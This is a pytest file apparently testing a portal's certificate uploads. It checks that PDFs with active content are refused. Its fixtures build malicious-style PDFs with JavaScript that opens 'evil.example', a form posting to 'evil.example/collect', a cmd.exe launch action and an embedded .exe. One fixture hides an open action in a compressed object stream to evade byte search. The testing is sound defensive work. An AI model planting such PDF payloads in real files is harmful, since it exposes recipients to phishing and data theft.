"""A certificate PDF that would make HR's PDF reader do something on its own is refused: a script (run on opening, on
a page, on a link or a form field), a command starting a program, a form sending to a website or reading another
file, a link opening another file, a file or media inside it. The PDF is parsed, so names inside compressed object
streams are found too. Plain web links and links within the document are taken. The walk is bounded, and a PDF that
cannot be read is refused rather than taken unchecked. Both doors refuse: the form (in the error summary and beside
the file) and the service; nothing is stored."""

import datetime
import io
import time
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from portal.compliance import certificate_files
from portal.compliance.certificates import CertificateError, certificate_upload
from portal.compliance.models import Certificate
from tests.compliance import test_certificates
from tests.compliance.test_certificate_file_contents import post, refused

staff, course = test_certificates.staff, test_certificates.course
SCRIPT = "The selected PDF contains a script that runs when it is opened or clicked"
ADVICE = "save the certificate again as a plain PDF (print it to PDF) or upload a photo of it"


def pdf_object(value):
    """A pypdf object from plain Python: a str starting with / is a name, any other str a text string."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): pdf_object(item) for key, item in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_object(item) for item in value)
    if isinstance(value, int):
        return NumberObject(value)
    return NameObject(value) if value.startswith("/") else TextStringObject(value)


def pdf(build=None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def link(action: dict, **extra):
    """A link annotation on the first page, carrying `action`."""

    def build(writer):
        annotation = {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [50, 50, 200, 80], "/A": action, **extra}
        writer.add_annotation(0, pdf_object(annotation))

    return build


def open_script(writer):
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/login', true);"))


def page_script(writer):
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('hello');"))


def attachment(writer):
    writer.add_attachment("invoice.pdf.exe", b"MZ\x90\x00")


def form_field_script(writer):
    field = {"/FT": "/Tx", "/T": "name", "/AA": {"/K": {"/S": "/JavaScript", "/JS": "this.submitForm('https://x')"}}}
    writer.root_object[NameObject("/AcroForm")] = pdf_object({"/Fields": []})
    writer.root_object["/AcroForm"]["/Fields"].append(writer._add_object(pdf_object(field)))


def bookmark_script(writer):
    item = writer.add_outline_item(title="Certificate", page_number=0)
    item.get_object()[NameObject("/A")] = pdf_object({"/S": "/JavaScript", "/JS": "app.alert(1)"})


def chained_submit(writer):
    submit = {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/collect"}}
    link({"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": [{"/S": "/Named", "/N": "/NextPage", "/Next": submit}]})(writer)


def script_type_in_its_own_object(writer):
    action = pdf_object({"/JS": "app.alert(1)"})
    action[NameObject("/S")] = writer._add_object(NameObject("/JavaScript"))
    annotation = pdf_object({"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [50, 50, 200, 80]})
    annotation[NameObject("/A")] = action
    writer.add_annotation(0, annotation)


def object_stream_open_action() -> bytes:
    """A PDF 1.5 whose catalog, pages and /OpenAction JavaScript all sit in one Flate-compressed object stream, as
    Word, Acrobat and most PDF makers write them: the names never appear in the file's bytes."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</S/JavaScript/JS(app.launchURL\\('https://evil.example'\\))>>",
    ]
    offsets, body = [], b""
    for number, item in enumerate(objects, start=1):
        offsets.append(b"%d %d" % (number, len(body)))
        body += item + b"\n"
    head = b" ".join(offsets) + b"\n"
    stream = zlib.compress(head + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += b"5 0 obj\n<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (len(head), len(stream))
    out += stream + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x02" + (5).to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(4)]
    rows += [b"\x01" + stream_at.to_bytes(4, "big") + b"\x00\x00", b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"]
    table = b"".join(rows)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


REFUSED = [
    (pdf(open_script), SCRIPT),
    (pdf(page_script), SCRIPT),
    (object_stream_open_action(), SCRIPT),
    (pdf(link({"/S": "/JavaScript", "/JS": "app.alert(1)"})), SCRIPT),
    (pdf(script_type_in_its_own_object), SCRIPT),
    (pdf(form_field_script), SCRIPT),
    (pdf(bookmark_script), SCRIPT),
    (pdf(attachment), "The selected PDF contains another file inside it"),
    (pdf(link({"/S": "/Launch", "/F": "cmd.exe"})), "The selected PDF contains a command that starts another program"),
    (pdf(chained_submit), "contains a form that sends what is typed into it to a website"),
    (pdf(link({"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]})), "a link that opens another file"),
    (pdf(link({"/S": "/URI", "/URI": "file://server/share/x.pdf"})), "a link that opens a file or program rather"),
    (pdf(link({"/S": "/SomethingNew"})), "contains an action the PDF reader would carry out beyond following a link"),
]
REFUSED_IDS = [
    "open-action-script",
    "page-open-script",
    "open-action-script-in-object-stream",
    "link-script",
    "link-script-its-type-in-another-object",
    "form-field-script",
    "bookmark-script",
    "embedded-file",
    "launch",
    "submit-form-chained-by-next",
    "go-to-another-file",
    "file-link",
    "unknown-action",
]


def test_the_object_stream_pdf_hides_its_names_from_a_byte_search():
    data = object_stream_open_action()
    assert b"/OpenAction" not in data and b"JavaScript" not in data


@pytest.mark.parametrize(("data", "message"), REFUSED, ids=REFUSED_IDS)
def test_a_pdf_with_active_content_is_refused_by_the_form_naming_it(person_client, course, data, message):
    response = post(person_client, course, data, "certificate.pdf", "application/pdf")
    refused(response, message)
    assert ADVICE in response.content.decode()


@pytest.mark.parametrize(("data", "message"), REFUSED[:3] + REFUSED[7:9], ids=REFUSED_IDS[:3] + REFUSED_IDS[7:9])
def test_a_pdf_with_active_content_is_refused_by_the_service(staff, course, data, message):
    with pytest.raises(CertificateError, match=message):
        certificate_upload(
            staff=staff,
            requirement=course,
            data=data,
            filename="c.pdf",
            completed_on=datetime.date(2026, 1, 5),
            user=None,
        )
    assert not Certificate.objects.exists()


def plain_links(writer):
    link({"/S": "/URI", "/URI": "https://learning.example.nhs.uk/certificates/42"})(writer)
    link({"/S": "/GoTo", "/D": [0, "/Fit"]})(writer)
    link({"/S": "/URI", "/URI": "mailto:training@example.nhs.uk"})(writer)
    writer.add_outline_item(title="Certificate", page_number=0)
    writer.open_destination = writer.pages[0]


def test_a_pdf_with_web_links_bookmarks_and_an_opening_page_is_taken(person_client, course):
    data = pdf(plain_links)
    assert b"/OpenAction" in data and b"/Annots" in data and b"/Outlines" in data
    assert post(person_client, course, data, "certificate.pdf", "application/pdf").status_code == 302
    assert Certificate.objects.get().content_type == "application/pdf"


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", b"%PDF-1.7 " + b"\x00" * 500],
    ids=["no-cross-reference", "nothing-after-the-header"],
)
def test_a_pdf_that_cannot_be_read_is_refused_as_damaged(person_client, course, data):
    response = post(person_client, course, data, "certificate.pdf", "application/pdf")
    refused(response, "The selected PDF is damaged or not made in a way that can be checked")


def test_a_pdf_with_more_pages_than_the_walk_reads_is_refused(person_client, course, monkeypatch):
    monkeypatch.setattr(certificate_files, "MAX_PAGES", 3)
    response = post(person_client, course, pdf(pages=4), "certificate.pdf", "application/pdf")
    refused(response, "The selected PDF has more than")


def looping_chain(length: int, last: dict | None):
    """A chain of `length` harmless actions each naming the next, the last naming the first again and `last` (or
    only the first)."""

    def build(writer):
        first = writer._add_object(pdf_object({"/S": "/Named", "/N": "/NextPage"}))
        previous = first
        for _ in range(length):
            current = writer._add_object(pdf_object({"/S": "/Named", "/N": "/NextPage"}))
            previous.get_object()[NameObject("/Next")] = current
            previous = current
        previous.get_object()[NameObject("/Next")] = (
            ArrayObject([first, writer._add_object(pdf_object(last))]) if last else first
        )
        annotation = {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [50, 50, 200, 80]}
        annotation = pdf_object(annotation)
        annotation[NameObject("/A")] = first
        writer.add_annotation(0, annotation)

    return build


def test_a_looping_next_chain_ends_and_what_is_at_its_end_is_found():
    data = pdf(looping_chain(2_000, {"/S": "/JavaScript", "/JS": "app.alert(1)"}))
    with pytest.raises(certificate_files.FileRefused, match=SCRIPT):
        certificate_files.file_kind(data)
    assert certificate_files.file_kind(pdf(looping_chain(2_000, {"/S": "/GoTo", "/D": [0, "/Fit"]})))[1] == "pdf"
    assert certificate_files.file_kind(pdf(looping_chain(6_000, None)))[1] == "pdf"


def test_a_chain_longer_than_the_walk_reads_is_refused(monkeypatch):
    monkeypatch.setattr(certificate_files, "MAX_OBJECTS", 500)
    data = pdf(looping_chain(1_000, {"/S": "/GoTo", "/D": [0, "/Fit"]}))
    started = time.monotonic()
    with pytest.raises(certificate_files.FileRefused, match="more parts than can be checked"):
        certificate_files.file_kind(data)
    assert time.monotonic() - started < 5
